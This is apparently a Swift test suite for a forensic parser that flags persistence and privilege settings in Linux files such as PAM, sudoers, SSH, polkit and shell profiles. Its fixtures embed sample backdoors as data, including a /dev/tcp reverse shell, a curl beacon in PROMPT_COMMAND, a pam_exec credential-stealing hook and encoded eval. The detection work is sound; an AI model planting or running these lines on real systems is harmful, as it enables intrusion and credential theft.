import Artifacts
import CaseModel
import HostFacts
import Testing

@Test func pamRuleIsSplitAndCommandsAreFound() {
  let text = """
    #%PAM-1.0
    @include common-auth
    auth\t[success=1 default=ignore]\tpam_unix.so nullok # note
    -session optional pam_systemd.so
    auth optional pam_exec.so quiet expose_authtok log=/tmp/l /usr/local/bin/steal.sh a
    password\t[success=1 default=ignore]\tpam_unix.so obscure yescrypt
    nonsense
    """
  let output = runPersistence("pam", "/etc/pam.d/sshd", bytes: Array(text.utf8))
  let found = persistence(of: output)
  #expect(found.map(\.line) == [2, 3, 4, 5, 6])
  #expect(found[0].attributes == ["service": "sshd", "control": "@include", "module": "common-auth"])
  #expect(
    found[1].attributes["control"] == "[success=1 default=ignore]" && found[1].attributes["arguments"] == "nullok")
  #expect(found[2].trigger == "-session")
  #expect(found[3].command == "/usr/local/bin/steal.sh a" && found[3].attributes["module"] == "pam_exec.so")
  #expect(found[4].attributes["type"] == "password" && found[4].text.contains("pam_unix.so obscure yescrypt"))
  #expect(output.notes.map(\.line) == [7])
  let table = persistence("pam", "/etc/pam.conf", "login auth required pam_unix.so\n")
  #expect(table[0].attributes["service"] == "login" && table[0].attributes["module"] == "pam_unix.so")
}

@Test func nameServicesStayReadable() {
  let found = persistence(
    "nsswitch", "/etc/nsswitch.conf", "passwd:  files evil\nhosts: files [NOTFOUND=return] dns # x\n")
  #expect(found[0].attributes == ["database": "passwd", "services": "files evil"])
  #expect(found[0].text == "passwd:  files evil")
  #expect(found[1].attributes["services"] == "files [NOTFOUND=return] dns")
}

@Test func sshServerKeywordsAreSpelledOneWayAndKnowTheirBlock() {
  let text = """
    port 2222
    PERMITROOTLOGIN=yes
    PermitEmptyPasswords yes
    AuthorizedKeysCommand /tmp/keys %u
    Subsystem sftp /usr/lib/openssh/sftp-server
    Match User bob Address 10.0.0.0/8
      ForceCommand internal-sftp
      AuthorizedKeysFile "/etc/k/%u"
    UnknownThing 1
    Match
    """
  let output = runPersistence("sshd-config", "/etc/ssh/sshd_config", bytes: Array(text.utf8))
  let found = persistence(of: output)
  #expect(found.count == 9)
  #expect(found[0].attributes == ["Port": "2222"])
  #expect(found[1].attributes == ["PermitRootLogin": "yes"])
  #expect(found[2].attributes == ["PermitEmptyPasswords": "yes"] && found[2].text == "PermitEmptyPasswords yes")
  #expect(found[3].command == "/tmp/keys %u" && found[3].mechanism == .sshServer)
  #expect(found[4].attributes["Subsystem"] == "sftp /usr/lib/openssh/sftp-server")
  #expect(found[6].command == nil && found[6].trigger == "Match User bob Address 10.0.0.0/8")
  #expect(found[7].attributes["AuthorizedKeysFile"] == "/etc/k/%u")
  #expect(found[8].attributes == ["UnknownThing": "1"])
  #expect(output.notes.map(\.line) == [10])
}

@Test func sshClientCommandsAreMaskedAndFound() {
  let found = persistence(
    "ssh-config", "/home/a/.ssh/config",
    "Host *\n  ProxyCommand sshpass -p hunter2 nc %h %p\n  PermitLocalCommand yes\n", account: "a")
  #expect(found[1].command == "sshpass -p ******* nc %h %p" && found[1].trigger == "Host *" && found[1].account == "a")
  #expect(found[1].text.contains("hunter2") == false)
  #expect(found[2].attributes == ["PermitLocalCommand": "yes"])
}

@Test func sshRCStatementsAreCommands() {
  let found = persistence("ssh-rc", "/home/a/.ssh/rc", "# c\n/tmp/x &\nxauth add\n", account: "a")
  #expect(found.map(\.command) == ["/tmp/x &", "xauth add"] && found[0].trigger == "login")
  #expect(found[0].attributes["signs"] == "background,odd-path")
}

@Test func sudoersSpecificationIsSplit() {
  let text = #"""
    # comment
    Defaults env_reset, env_keep += "LD_PRELOAD HOME", !requiretty, passwd_tries=3
    Defaults:bob !authenticate
    User_Alias OPS = alice, bob : DBA = carol
    Cmnd_Alias PASSWD_CMDS = /usr/bin/passwd, /usr/sbin/chpasswd
    root ALL=(ALL:ALL) ALL
    %wheel ALL=(ALL) NOPASSWD: ALL # trailing
    OPS web1 = (root, www) NOPASSWD:SETENV: /bin/ls, \
      PASSWD: PASSWD_CMDS : db1 = /bin/cat
    #1001 ALL = NOPASSWD: /bin/sh
    @includedir /etc/sudoers.d
    #include /etc/sudoers.local
    garbage
    """#
  let output = runPersistence("sudoers", "/etc/sudoers", bytes: Array(text.utf8))
  let found = persistence(of: output)
  #expect(found.map(\.line) == [2, 3, 4, 4, 5, 6, 7, 8, 8, 10, 11, 12])
  #expect(found[0].attributes["env_keep"] == "+= \"LD_PRELOAD HOME\"" && found[0].attributes["!requiretty"] == "on")
  #expect(found[0].attributes["passwd_tries"] == "3")
  #expect(found[1].account == "bob" && found[1].attributes["!authenticate"] == "on")
  #expect(found[2].attributes == ["OPS": "alice, bob", "kind": "User_Alias"])
  #expect(found[4].attributes["PASSWD_CMDS"] == "/usr/bin/passwd, /usr/sbin/chpasswd")
  #expect(
    found[5].account == "root" && found[5].attributes["runas"] == "ALL:ALL" && found[5].attributes["commands"] == "ALL")
  #expect(found[5].attributes["nopasswd"] == nil)
  #expect(
    found[6].account == "%wheel" && found[6].attributes["nopasswd"] == "ALL"
      && found[6].attributes["tags"] == "NOPASSWD")
  #expect(found[6].text == "%wheel ALL=(ALL) NOPASSWD: ALL")
  #expect(found[7].attributes["hosts"] == "web1" && found[7].attributes["runas"] == "root,www")
  #expect(found[7].attributes["tags"] == "NOPASSWD SETENV PASSWD")
  #expect(found[7].attributes["commands"] == "/bin/ls, PASSWD_CMDS" && found[7].attributes["nopasswd"] == "/bin/ls")
  #expect(found[7].attributes["expanded_users"] == "alice, bob")
  #expect(found[7].attributes["expanded_commands"] == "/usr/bin/passwd, /usr/sbin/chpasswd")
  #expect(found[8].attributes["hosts"] == "db1" && found[8].attributes["commands"] == "/bin/cat")
  #expect(found[9].account == "#1001" && found[9].attributes["nopasswd"] == "/bin/sh")
  #expect(found[10].attributes == ["includedir": "/etc/sudoers.d"])
  #expect(found[11].attributes == ["include": "/etc/sudoers.local"])
  #expect(output.notes.map(\.line) == [13])
}

@Test func polkitBlockTellsActionsGroupsAndResult() {
  let text = """
    // comment
    polkit.addRule(function(action, subject) {
      if (action.id == "org.freedesktop.systemd1.manage-units" && subject.isInGroup("ops")) {
        return polkit.Result.YES;
      }
    });
    polkit.addRule(function(action, subject) {
      polkit.spawn(["/tmp/x", "-a"]);
      if (subject.user == "eve") { return polkit.Result.AUTH_SELF; }
    });
    """
  let found = persistence("polkit", "/etc/polkit-1/rules.d/1.rules", text)
  #expect(found.map(\.line) == [2, 7])
  #expect(found[0].trigger == "org.freedesktop.systemd1.manage-units" && found[0].account == "group ops")
  #expect(found[0].attributes["results"] == "YES" && found[0].attributes["groups"] == "ops")
  #expect(
    found[1].command == "/tmp/x -a" && found[1].attributes["users"] == "eve"
      && found[1].attributes["results"] == "AUTH_SELF")
  let local = persistence(
    "polkit", "/etc/polkit-1/localauthority/50-local.d/x.pkla", "[All]\nIdentity=unix-user:*\nAction=*\nResultAny=yes\n"
  )
  #expect(local[0].account == "unix-user:*" && local[0].trigger == "*" && local[0].attributes["ResultAny"] == "yes")
}

@Test func doasRuleIsSplit() {
  let found = persistence(
    "doas", "/etc/doas.conf", "permit nopass keepenv setenv { A B } alice as root cmd /bin/sh args -c x\ndeny :guests\n"
  )
  #expect(found[0].account == "alice")
  #expect(
    found[0].attributes == [
      "action": "permit", "options": "nopass keepenv setenv", "as": "root", "command": "/bin/sh args -c x",
    ])
  #expect(found[1].account == ":guests" && found[1].attributes["action"] == "deny")
}

@Test func profileKeepsOnlyLinesOfNote() {
  let text = #"""
    # ~/.bashrc
    case $- in *i*) ;; *) return;; esac
    export PATH=/tmp/bin:$PATH
    echo hello
    alias sudo='/home/a/.x/sudo'
    alias foo=bar
    su() { command su "$@"; }
    trap '/tmp/on-exit' EXIT
    export PROMPT_COMMAND='curl -s http://h/$(whoami)'
    unset HISTFILE; set +o history
    eval "$(echo Y3VybA== | base64 -d)"
    (setsid /usr/bin/x >/dev/null 2>&1 &)
    bash -i >& /dev/tcp/203.0.113.9/443 0>&1
    . /home/a/.cache/.y
    . /etc/bashrc
    python3 -c 'import socket'
    LD_PRELOAD=/tmp/l.so ls
    """#
  let found = persistence("shell-profile", "/home/a/.bashrc", text, account: "a")
  #expect(found[0].attributes["lines"] == "17" && found[0].line == 0 && found[0].trigger == "shell")
  #expect(found.dropFirst().map(\.line) == [3, 5, 7, 8, 9, 10, 11, 12, 13, 14, 16, 17])
  func signs(_ line: Int) -> String? { found.first { $0.line == line }?.attributes["signs"]?.text }
  #expect(signs(3) == "variable,odd-path" && found[1].attributes["value"] == "/tmp/bin:$PATH")
  #expect(
    signs(5) == "alias" && found[2].attributes["alias"] == "sudo" && found[2].attributes["value"] == "/home/a/.x/sudo")
  #expect(signs(7) == "function" && found[3].attributes["function"] == "su")
  #expect(signs(8) == "trap,odd-path" && found[4].command == "/tmp/on-exit")
  #expect(signs(9) == "variable,fetch" && found[5].command == "curl -s http://h/$(whoami)")
  #expect(signs(10) == "history")
  #expect(signs(11) == "eval,decode")
  #expect(signs(12) == "background")
  #expect(signs(13) == "network")
  #expect(signs(14) == "source" && signs(16) == "inline-code")
  #expect(signs(17) == "variable,odd-path")
  #expect(found.allSatisfy { $0.account == "a" })
}

@Test func nulBytesDoNotHideACommandFromUs() {
  let found = persistence(of: runPersistence("shell-profile", "/root/.bashrc", bytes: Array("cu\0rl http://x\n".utf8)))
  #expect(found.last?.attributes["signs"] == "fetch")
}

@Test func ordinaryProfileHasOnlyItsSummary() {
  #expect(persistence("shell-profile", "/etc/profile.d/a.sh", "if [ -n \"$A\" ]; then\n  echo b\nfi\n").count == 1)
}

@Test func variablesKeepValuesOnlyFromTheList() {
  let found = persistence(
    "environment", "/etc/environment", "PATH=\"/tmp:/bin\"\nLD_PRELOAD=/x.so\nMY_API=abc\nBASH_ENV DEFAULT=/tmp/e\n")
  #expect(found.map { $0.attributes["variable"] } == ["PATH", "LD_PRELOAD", "MY_API", "BASH_ENV"])
  #expect(found.map { $0.attributes["value"] } == ["/tmp:/bin", "/x.so", "***", "DEFAULT=/tmp/e"])
  #expect(found[2].text == "MY_API=***")
}

@Test func motdScriptRunsAtLogin() {
  let found = persistence("motd-script", "/etc/update-motd.d/00-x", "#!/bin/sh\nwget -q http://h/x\n", mode: 0o755)
  #expect(found[0].trigger == "login" && found[0].isEnabled == true && found[1].attributes["signs"] == "fetch")
}

@Test func desktopEntryRunsAtLoginUnlessHidden() {
  let text = "[Desktop Entry]\nType=Application\nName=X\nExec=/home/a/.x %u\n"
  let found = persistence("desktop-entry", "/home/a/.config/autostart/x.desktop", text)
  #expect(found[0].command == "/home/a/.x %u" && found[0].trigger == "login" && found[0].isEnabled == true)
  #expect(persistence("desktop-entry", "/etc/xdg/autostart/x.desktop", text + "Hidden=true\n")[0].isEnabled == false)
  #expect(persistence("desktop-entry", "/usr/share/applications/x.desktop", text)[0].isEnabled == nil)
}

@Test func busServiceTellsCommandAndAccount() {
  let found = persistence(
    "dbus-service", "/usr/share/dbus-1/system-services/x.service",
    "[D-BUS Service]\nName=org.x\nExec=/tmp/x --bus\nUser=root\nSystemdService=x.service\n")
  #expect(found[0].command == "/tmp/x --bus" && found[0].account == "root" && found[0].trigger == "org.x")
  #expect(found[0].attributes["SystemdService"] == "x.service")
}
